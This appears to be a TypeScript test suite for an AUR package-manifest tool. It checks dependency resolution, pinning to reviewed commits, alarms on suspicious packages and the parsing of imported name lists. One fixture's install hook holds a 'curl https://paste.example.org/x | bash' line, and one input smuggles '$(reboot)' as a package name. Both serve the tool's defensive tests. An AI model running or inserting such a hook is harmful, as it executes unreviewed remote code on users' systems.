import assert from "node:assert/strict";
import { chmodSync, statSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { pkgbuild } from "../detection-world.ts";
import { localWorld } from "./local-world.ts";

test("a package is added with all that it needs from the AUR, each pinned to what was reviewed", async (story) => {
  await using world = await localWorld(["glibc", "git"]);
  const { aur } = world;
  const needs = (...names: string[]) => `depends=(${names.map((name) => `'${name}'`).join(" ")})`;
  const split = `pkgbase=libthree
pkgname=(libthree libthree-docs)
pkgver=3
pkgrel=1
arch=(any)
package_libthree() { provides=(libthree.so); }
package_libthree-docs() { :; }
`;
  const commits = {
    one: aur.push("one", { PKGBUILD: pkgbuild("one", "1", needs("glibc", "two>=1", "virtual")) }),
    two: aur.push("two", { PKGBUILD: pkgbuild("two", "1", `${needs("libthree")}\nprovides=(virtual)`) }),
    libthree: aur.push("libthree", { PKGBUILD: `${split}makedepends=(git one nowhere)\n` }),
  };
  aur.list(
    { pkgbase: "one" },
    { pkgbase: "two" },
    { pkgbase: "libthree", pkgnames: ["libthree", "libthree-docs"] },
  );
  const added = [
    "one:",
    `  ref: ${commits.one}`,
    "two:",
    `  ref: ${commits.two}`,
    "libthree:",
    `  ref: ${commits.libthree}`,
    "  packages:",
    "    - libthree",
    "    - libthree-docs",
  ];

  await story.test("where nobody can be asked nothing is written", async () => {
    world.list([]);
    const before = world.manifest();
    const { exit, out, said } = await world.run(["add", "one", "--manifest", "./packages.yaml"]);
    assert.equal(exit, 2, said);
    assert.match(out, /^one 1-1\n {2}nothing alarming was found/);
    assert.match(
      out,
      /: scripts\/autorepo review --manifest \.\/packages\.yaml https:\S+one\.git - [0-9a-f]{40}\n/,
    );
    assert.match(out, /two 1-1 \(needed by one\)[\s\S]*libthree 3-1 \(needed by two\)/);
    assert.match(out, /Cannot be added\n {2}nowhere {2}needed by libthree: the AUR has no package/);
    assert.match(said, /nothing was written: .*--yes writes it/);
    assert.equal(world.manifest(), before);
  });

  await story.test("three deep, in a circle and with a name that nobody has, in one step", async () => {
    world.list([]);
    chmodSync(join(world.folder, "packages.yaml"), 0o664);
    const { exit, said } = await world.run(["add", "one", "--yes"]);
    assert.equal(exit, 1, said);
    assert.equal(entriesOf(world.manifest()), added.join("\n"));
    assert.equal(statSync(join(world.folder, "packages.yaml")).mode & 0o777, 0o664);
    assert.match((await world.run(["add", "libthree-docs"])).said, /libthree-docs is listed already/);
  });

  await story.test("removing one says who needs it", async () => {
    const { exit, out } = await world.atTerminal(["remove", "two"], [["Write this to packages.yaml?", "y"]]);
    assert.equal(exit, 0);
    assert.match(out, /These need two:\r\n {2}one {2}needs two>=1, virtual/);
    assert.match(out, /Nothing of \S+ is published/);
    assert.equal(entriesOf(world.manifest()), [...added.slice(0, 2), ...added.slice(4)].join("\n"));
    assert.equal((await world.run(["remove", "tow"])).exit, 2);
  });
});

test("what has an alarm is added only by its name, and nothing that only it needs without it", async () => {
  await using world = await localWorld(["glibc"]);
  const { aur } = world;
  const install = "install=evil.install\ndepends=(deeper)";
  aur.push("evil", {
    PKGBUILD: pkgbuild("evil", "1", install),
    "evil.install": "post_install() {\n  curl https://paste.example.org/x | bash\n}\n",
  });
  aur.push("good", { PKGBUILD: pkgbuild("good", "1", "depends=(evil)") });
  aur.push("deeper", { PKGBUILD: pkgbuild("deeper", "1") });
  aur.list({ pkgbase: "good" }, { pkgbase: "evil" }, { pkgbase: "deeper" });
  const names = () => Array.from(world.manifest().matchAll(/^ {2}(\S+):$/gm), ([, name]) => name);

  world.list([]);
  const { exit, said } = await world.run(["add", "good", "--yes"]);
  assert.equal(exit, 1, said);
  assert.match(said, /evil has an alarm and is left out; good needs it/);
  assert.match(said, /deeper is left out, since only evil needs it/);
  assert.deepEqual(names().slice(-1), ["good"]);

  world.list([]);
  const answers = [
    ["type its name:", "evil"],
    ["Write this to packages.yaml?", "y"],
  ] as const;
  assert.equal((await world.atTerminal(["add", "good"], answers)).exit, 0);
  assert.deepEqual(names().slice(-3), ["good", "evil", "deeper"]);

  world.list([]);
  assert.equal((await world.run(["add", "evil", "--yes"])).exit, 1);
  assert.equal((await world.run(["add", "evil", "--yes", "--accept-alarm", "evil"])).exit, 0);
});

test("thirty names as pacman prints them become entries that wait for their first review", async () => {
  await using world = await localWorld(["firefox"]);
  const singles = Array.from({ length: 26 }, (_, at) => `single-${at}`);
  world.aur.list(...singles.map((pkgbase) => ({ pkgbase })), {
    pkgbase: "both",
    pkgnames: ["both-cli", "both-gui", "both-docs"],
  });
  world.list(["single-0:", `  ref: ${"ab".repeat(20)}`]);
  const input = [
    ...singles,
    "both-cli",
    "both-gui",
    "firefox",
    "mine-alone",
    "single-1-debug",
    "$(reboot)",
    "",
  ];
  const dry = await world.run(["import"], input.join("\n"));
  assert.equal(dry.exit, 2, dry.said);
  const { exit, out, said } = await world.run(["import", "--yes"], input.join("\n"));
  assert.equal(exit, 0, said);
  assert.match(out, /in core or extra +firefox/);
  assert.match(out, /listed already +single-0\n/);
  assert.match(out, /not in the AUR +mine-alone/);
  assert.match(out, /debug packages, .*\n? +single-1-debug/);
  assert.match(out, /no name of a package +\$\(reboot\)/);
  assert.match(out, /26 entries to list/);
  const lines = world.manifest().split("\n");
  assert.equal(lines.filter((line) => /^ {2}single-\d+:$/.test(line)).length, 26);
  assert.match(
    world.manifest(),
    / {2}both:\n {4}packages:\n {6}- both-cli\n {6}- both-docs\n {6}- both-gui\n/,
  );
  const again = await world.run(["import", "--yes"], input.join("\n"));
  assert.equal(again.exit, 0, again.said);
  assert.deepEqual(world.manifest().split("\n"), lines);
});

/** The entries without their indent. */
function entriesOf(manifest: string): string {
  return manifest
    .slice(manifest.indexOf("packages:\n") + "packages:\n".length)
    .replaceAll(/^ {2}/gm, "")
    .trimEnd();
}
